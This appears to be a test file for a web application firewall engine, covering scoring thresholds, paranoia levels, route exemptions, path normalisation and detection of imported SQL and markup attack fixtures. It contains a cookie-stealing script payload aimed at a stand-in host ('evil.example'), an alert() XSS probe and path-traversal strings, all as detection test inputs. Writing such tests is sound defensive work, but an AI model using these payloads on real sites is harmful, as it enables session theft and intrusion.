import { describe, expect, test } from "bun:test";
import { markupAttacks } from "../../../../../tests/fixtures/attacks/markup-attacks.ts";
import { sqlAttacks } from "../../../../../tests/fixtures/attacks/sql-attacks.ts";
import { builtInExemptions } from "../rules/built-in.ts";
import { createEngine, excerptOf } from "./engine.ts";
import type { Exemption, Pattern } from "./engine-types.ts";
import { requestOf, requestWith, usualOptions } from "./testing/inspect.ts";
import { carriers, oversized } from "./testing/places.ts";

const finding = (
  id: number,
  severity: Pattern["severity"],
  needle: string,
  paranoia: Pattern["paranoia"] = 1,
): Pattern => ({
  id,
  title: `Finds ${needle}`,
  category: "protocol",
  paranoia,
  severity,
  view: "plain",
  needs: [needle],
  find: (text) => (text.includes(needle) ? needle : null),
});

const patterns = [
  finding(1, "critical", "red"),
  finding(2, "medium", "green"),
  finding(3, "low", "blue"),
  finding(4, "critical", "grey", 2),
];
const inspect = (text: string, options = {}) =>
  createEngine({ ...usualOptions, ...options }, patterns).inspect(requestOf(text));

test("a severe finding blocks alone, weak ones when they come together", () => {
  expect(inspect("red")).toMatchObject({ score: 5, isAttack: true });
  expect(inspect("green")).toMatchObject({ score: 3, isAttack: false });
  expect(inspect("green and blue")).toMatchObject({ score: 5, isAttack: true });
});

test("a pattern counts once, however often it finds something", () => {
  const request = requestWith({ query: "a=green&b=green&c=green" });
  expect(createEngine(usualOptions, patterns).inspect(request)).toMatchObject({ score: 3, isAttack: false });
});

test("threshold, level of paranoia and switched-off patterns are the admin's", () => {
  expect(inspect("red", { threshold: 6 }).isAttack).toBe(false);
  expect(inspect("grey").isAttack).toBe(false);
  expect(inspect("grey", { paranoia: 2 }).isAttack).toBe(true);
  expect(inspect("red", { switchedOff: new Set([1]) })).toMatchObject({ score: 0, hits: [] });
});

test("what is an attack eight times over is looked at no further", () => {
  const words = "abcdefghijkl".split("");
  const many = words.map((letter, index) => finding(index + 1, "critical", `${letter}${letter}`));
  const text = requestOf(words.map((letter) => letter + letter).join(" "));
  const { hits, isAttack } = createEngine(usualOptions, many).inspect(text);
  expect([hits.length, isAttack]).toEqual([8, true]);
  const patient = createEngine({ ...usualOptions, threshold: 55 }, many).inspect(text);
  expect([patient.score, patient.isAttack]).toEqual([55, true]);
});

test("in a message naming a thing passes, being one is blocked", () => {
  const script: Pattern = {
    ...finding(9, "critical", "<script"),
    category: "cross-site-scripting",
    view: "markup",
  };
  const scoreOf = (text: string) => createEngine(usualOptions, [script]).inspect(requestOf(text)).score;
  const around = (piece: string): string =>
    `Is it the ${piece} that you have in your page, or is this not on there?`;
  expect(scoreOf(around('<script src="/embed.js"></script>'))).toBe(1);
  expect(scoreOf(around("<script>fetch('//evil.example/'+document.cookie)</script>"))).toBe(5);
  expect(scoreOf('<script src="/embed.js"></script>')).toBe(5);
});

test("a finding tells what was found, where and why", () => {
  expect(inspect("a RED one").hits).toEqual([
    {
      pattern: 1,
      title: "Finds red",
      category: "protocol",
      score: 5,
      place: "query",
      name: "q",
      excerpt: "a red one",
    },
  ]);
});

test("what cannot be looked through whole counts as an attack", () => {
  expect(createEngine(usualOptions, []).inspect(requestWith({ body: new Uint8Array(70_000) }))).toEqual({
    score: 0,
    isAttack: true,
    hits: [],
    obstacle: "too-large",
  });
});

const attack = "<script>alert(1)</script>";
const body = new TextEncoder().encode(JSON.stringify({ message: attack }));
const isBlocked = (exemption: Exemption, parts = {}): boolean =>
  createEngine({ ...usualOptions, exemptions: [exemption] }).inspect(
    requestWith({ path: "/api/contact", body, ...parts }),
  ).isAttack;

const contact: Exemption = { method: "POST", path: "/api/contact", fields: [], categories: [] };
const message: Exemption = { ...contact, fields: ["message"], categories: ["cross-site-scripting"] };

test("a field is exempt from the categories named, on its route alone", () => {
  expect(isBlocked(message)).toBe(false);
  expect(isBlocked({ ...message, method: "*" })).toBe(false);
  expect(isBlocked({ ...message, path: "/api/*" })).toBe(false);
  expect(isBlocked({ ...message, fields: ["subject"] })).toBe(true);
  expect(isBlocked({ ...message, categories: ["sql-injection"] })).toBe(true);
  expect(isBlocked({ ...message, method: "PUT" })).toBe(true);
  expect(isBlocked({ ...message, path: "/api/con" })).toBe(true);
});

test("a cookie or a header of a field's name is not exempt", () => {
  expect(isBlocked(message, { headers: [["message", attack]] })).toBe(true);
  expect(isBlocked(message, { headers: [["cookie", `message=${attack}`]] })).toBe(true);
});

test("a route that is exempt wholly takes what is too large as well", () => {
  expect(isBlocked(contact, { body: new Uint8Array(100_000) })).toBe(false);
  expect(isBlocked(message, { body: new Uint8Array(100_000) })).toBe(true);
});

test("an odd writing of a path is not what is exempt", () => {
  const all: Exemption = { ...contact, path: "/api/*" };
  for (const path of ["/api/../admin", "/api/%2e%2e/admin", "/api//x", "/api/..\\x"])
    expect(isBlocked(all, { path })).toBe(true);
  expect(isBlocked(contact, { path: "/api/contact/" })).toBe(true);
});

test("an exemption of a body leaves the rest of the request to be looked at", () => {
  const upload: Exemption = { ...contact, places: ["body"] };
  expect(isBlocked(upload)).toBe(false);
  expect(isBlocked(upload, { body: new Uint8Array(100_000) })).toBe(false);
  expect(isBlocked(upload, { query: `a=${encodeURIComponent(attack)}` })).toBe(true);
  expect(isBlocked(upload, { headers: [["cookie", `a=${attack}`]] })).toBe(true);
  expect(isBlocked(upload, { headers: [["user-agent", attack]] })).toBe(true);
});

test("built-in exemptions are for passwords in bodies of the routes that take them, and for packages", () => {
  const engine = createEngine({ ...usualOptions, exemptions: builtInExemptions });
  const passes = (path: string, parts = {}): boolean =>
    !engine.inspect(requestWith({ path, ...parts })).isAttack;
  const password = new TextEncoder().encode(JSON.stringify({ password: attack }));
  for (const path of ["/api/auth/login", "/api/account", "/api/account/password", "/api/admin/users"])
    expect([path, passes(path, { body: password })]).toEqual([path, true]);
  for (const path of ["/api/accounting", "/api/accounting/report", "/api/account-x", "/api/contact"])
    expect([path, passes(path, { body: password })]).toEqual([path, false]);
  const query = `password=${encodeURIComponent(attack)}`;
  for (const path of ["/api/auth/login", "/api/account", "/api/account/password"])
    expect([path, passes(path, { query })]).toEqual([path, false]);
  expect(passes("/api/plugins/upload", { body: new Uint8Array(100_000) })).toBe(true);
  expect(passes("/api/plugins/upload", { query })).toBe(false);
});

test("an excerpt shows what was found with a little around it, in one line of at most 120 characters", () => {
  expect(excerptOf("before it <script> after it", "<script>")).toBe("before it <script> after it");
  expect(excerptOf(`${"a".repeat(99)}<script>${"b".repeat(99)}`, "<script>")).toBe(
    `${"a".repeat(20)}<script>${"b".repeat(20)}`,
  );
  expect(excerptOf("x".repeat(500), "x".repeat(500))).toHaveLength(120);
  expect(excerptOf("a\u0000b\nc\u202ed", "b")).toBe("a b c d");
});

const engine = createEngine(usualOptions);
const payloads = [...sqlAttacks, ...markupAttacks];

describe("F2: an attack is an attack wherever it stands", () => {
  for (const { name, carry } of carriers) {
    test(`F2: ${payloads.length} attacks are found in: ${name}`, () => {
      const missed = payloads.filter((text) => {
        const { isAttack, obstacle } = engine.inspect(carry(text));
        return !isAttack || obstacle !== null;
      });
      expect(missed).toEqual([]);
    });
  }

  for (const { name, carry } of oversized) {
    test(`F2: what is more than is looked through is refused: ${name}`, () => {
      expect(engine.inspect(carry("a harmless text"))).toMatchObject({
        isAttack: true,
        obstacle: "too-large",
      });
    });
  }

  for (const { name, carry } of carriers) {
    test(`a harmless text passes in: ${name}`, () => {
      expect(engine.inspect(carry("Good morning, is the blue one still for sale?"))).toEqual({
        score: 0,
        isAttack: false,
        hits: [],
        obstacle: null,
      });
    });
  }
});
